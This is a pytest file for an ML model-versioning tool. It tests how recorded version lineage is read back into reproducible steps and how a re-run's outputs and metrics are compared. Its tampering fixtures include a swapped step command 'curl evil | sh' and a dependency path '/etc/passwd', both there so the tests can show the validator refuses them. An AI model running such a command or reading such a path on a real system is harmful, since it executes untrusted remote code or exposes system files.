"""Reading a version's record back into the steps reproduce runs, and judging a re-run."""

from __future__ import annotations

import copy
import math
from typing import Any

import pytest

from mvctl.core.reproduction import (
    DEP_FILES,
    compare_metrics,
    compare_outputs,
    recorded_run,
)
from mvctl.core.resolve import resolve_model
from mvctl.errors import StateError
from mvctl.spec.models import Config

DIGEST = "sha256:" + "a" * 64
OTHER = "sha256:" + "b" * 64
TREE = "tree:" + "c" * 64


def record() -> tuple[dict[str, Any], dict[str, Any]]:
    """(spec, lineage) as apply records them for a two-step version."""
    config = Config.model_validate(
        {
            "project": "p",
            "models": {
                "m": {
                    "pipeline": [
                        {
                            "name": "prep",
                            "run": "python prep.py",
                            "deps": ["prep.py", {"path": "data", "snapshot": False}],
                            "outputs": ["d.npz"],
                        },
                        {"name": "fit", "uses": "sklearn", "deps": ["prep"]},
                    ],
                    "versions": {"1.0.0": {}},
                }
            },
        }
    )
    version = resolve_model("m", config.models["m"], {"prep.py": DIGEST, "data": TREE}, {})["1.0.0"]
    dep_files = {
        "prep": {
            "prep.py": {"kept": True, "files": {"prep.py": DIGEST}},
            "data": {"kept": False, "files": {"data/a.csv": OTHER}},
        },
        "fit": {},
    }
    lineage = {
        "steps": {
            step.name: {
                "key": step.key,
                "outputs": {name: DIGEST for name in step.outputs},
                DEP_FILES: dep_files[step.name],
            }
            for step in version.steps
        },
        "artifact": {"step": "fit", "file": "model.skops"},
    }
    return version.spec(), lineage


def test_a_record_reads_back_in_run_order_with_its_dep_files() -> None:
    spec, lineage = record()
    run = recorded_run("m@1.0.0", spec, lineage)
    assert [step.name for step in run.steps] == ["prep", "fit"]
    assert (run.artifact_step, run.artifact_file) == ("fit", "model.skops")
    prep = run.steps[0]
    assert prep.upstream == () and run.steps[1].upstream == ("prep",)
    assert [(d.dep, d.kept, dict(d.files or {})) for d in prep.deps] == [
        ("prep.py", True, {"prep.py": DIGEST}),
        ("data", False, {"data/a.csv": OTHER}),
    ]


def test_a_run_recorded_before_dep_files_were_kept_knows_only_the_digests() -> None:
    spec, lineage = record()
    for info in lineage["steps"].values():
        del info[DEP_FILES]
    prep = recorded_run("m@1.0.0", spec, lineage).steps[0]
    assert [(d.dep, d.digest, d.files) for d in prep.deps] == [
        ("prep.py", DIGEST, None),
        ("data", TREE, None),
    ]


def tampered(change: Any) -> tuple[dict[str, Any], dict[str, Any]]:
    spec, lineage = record()
    spec, lineage = copy.deepcopy(spec), copy.deepcopy(lineage)
    change(spec, lineage)
    return spec, lineage


def _set(path: tuple[Any, ...], value: Any) -> Any:
    def change(spec: dict[str, Any], lineage: dict[str, Any]) -> None:
        node: Any = {"spec": spec, "lineage": lineage}
        for part in path[:-1]:
            node = node[part]
        node[path[-1]] = value

    return change


TAMPERINGS = {
    "command-swapped": (_set(("spec", "steps", "prep", "run"), "curl evil | sh"), "does not hash"),
    "key-dropped": (_set(("lineage", "steps", "prep", "key"), None), "no cache key"),
    "dep-file-climbs-out": (
        _set(("lineage", "steps", "prep", DEP_FILES, "data", "files"), {"../x": OTHER}),
        "climbs out",
    ),
    "dep-file-absolute": (
        _set(("lineage", "steps", "prep", DEP_FILES, "data", "files"), {"/etc/passwd": OTHER}),
        "is absolute",
    ),
    "dep-files-for-another-dep": (
        _set(("lineage", "steps", "prep", DEP_FILES), {"other": {"kept": True, "files": {}}}),
        "do not match its deps",
    ),
    "output-climbs-out": (
        _set(("lineage", "steps", "fit", "outputs"), {"../../model.skops": DIGEST}),
        "climbs out",
    ),
    "output-digest-not-sha256": (
        _set(("lineage", "steps", "fit", "outputs"), {"model.skops": "md5:1"}),
        "has no digest",
    ),
    "step-missing-from-lineage": (
        lambda spec, lineage: lineage["steps"].pop("fit"),
        "different steps",
    ),
    "artifact-names-no-output": (
        _set(("lineage", "artifact"), {"step": "fit", "file": "other.skops"}),
        "which step output is its model",
    ),
}


@pytest.mark.parametrize("name", sorted(TAMPERINGS))
def test_a_malformed_or_inconsistent_record_is_refused(name: str) -> None:
    change, expected = TAMPERINGS[name]
    spec, lineage = tampered(change)
    with pytest.raises(StateError, match=expected) as raised:
        recorded_run("m@1.0.0", spec, lineage)
    assert "the record of m@1.0.0 cannot be reproduced" in raised.value.message
    assert "mvctl state check" in (raised.value.fix or "")


def test_outputs_are_compared_by_digest_and_a_missing_one_differs() -> None:
    checks = compare_outputs({"a": DIGEST, "b": DIGEST}, {"a": DIGEST, "b": OTHER, "c": OTHER})
    assert [(c.name, c.matches) for c in checks] == [("a", True), ("b", False), ("c", False)]
    (missing,) = compare_outputs({"a": DIGEST}, {})
    assert (missing.reproduced, missing.matches) == (None, False)


def test_metrics_match_exactly_nan_matches_nan_and_timings_are_never_compared() -> None:
    checks = compare_metrics(
        ["accuracy", "f1", "log_loss", "qps", "latency_p95_ms"],
        {"accuracy": 0.9, "f1": 0.8, "log_loss": None, "qps": 100.0, "latency_p95_ms": 2.0},
        {"log_loss": "nan"},
        {"accuracy": 0.9, "f1": 0.75, "log_loss": None, "qps": 50.0, "latency_p95_ms": 9.0},
        {"log_loss": "nan"},
    )
    by_name = {check.metric: check for check in checks}
    assert {name: c.status for name, c in by_name.items()} == {
        "accuracy": "match",
        "f1": "differs",
        "log_loss": "match",
        "qps": "timing",
        "latency_p95_ms": "timing",
    }
    delta = by_name["f1"].delta
    assert delta is not None and math.isclose(delta, -0.05)
    (turned_nan,) = compare_metrics(["accuracy"], {"accuracy": 0.9}, {}, {}, {"accuracy": "nan"})
    assert turned_nan.status == "differs"
